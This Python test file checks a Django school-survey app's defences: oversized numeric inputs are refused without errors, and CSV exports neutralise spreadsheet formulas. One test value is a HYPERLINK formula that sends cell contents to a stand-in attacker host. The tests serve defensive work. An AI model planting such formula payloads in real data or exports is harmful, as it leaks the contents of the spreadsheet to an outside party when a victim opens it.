"""An attacker's view of the survey doors: numbers ``int`` refuses in an answer or the results' class filter
are a refusal or ignored, never a 500; a text answer that a spreadsheet would run as a formula is
neutralised in the results' exports."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from classbook.surveys import services
from classbook.surveys.models import Response
from tests.surveys.conftest import answers_for

HOSTILE = ["²", "9" * 5000, "99999999999999999999"]


@pytest.mark.parametrize("raw", HOSTILE)
def test_a_hostile_number_in_an_answer_is_refused_and_nothing_is_saved(world, as_user, survey, raw):
    q1, q2, q3, _q4 = survey.questions.order_by("position")
    url = reverse("surveys:answer", kwargs={"school": world.school.slug, "survey_id": survey.pk})
    response = as_user(world.parent).post(url, {f"q{q1.pk}": raw, f"q{q2.pk}": raw, f"q{q3.pk}": raw})
    assert response.status_code in (200, 422)
    assert not Response.objects.filter(survey=survey).exists()


@pytest.mark.parametrize("raw", HOSTILE)
def test_a_hostile_class_in_the_results_filter_is_ignored(world, as_user, survey, raw):
    url = reverse("surveys:results", kwargs={"school": world.school.slug, "survey_id": survey.pk})
    assert as_user(world.director).get(url, {"class": raw}).status_code == 200


def test_a_formula_typed_as_an_answer_is_text_in_the_csv_export(world, as_user, survey, settings):
    for n, who in enumerate(
        [world.parent, world.other_parent, world.student.user, world.other_student.user, world.teacher]
    ):
        text = '=HYPERLINK("http://evil.example/?"&A1,"x")' if n == 0 else f"+{n}"
        services.submit_response(ctx=_ctx(world, who), survey=survey, answers=answers_for(survey, text=text))
    url = reverse("surveys:results", kwargs={"school": world.school.slug, "survey_id": survey.pk})
    response = as_user(world.director).get(url, {"format": "csv"})
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";") for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def _ctx(world, user):
    from classbook.access.context import resolve_school

    return resolve_school(user, world.school.slug)
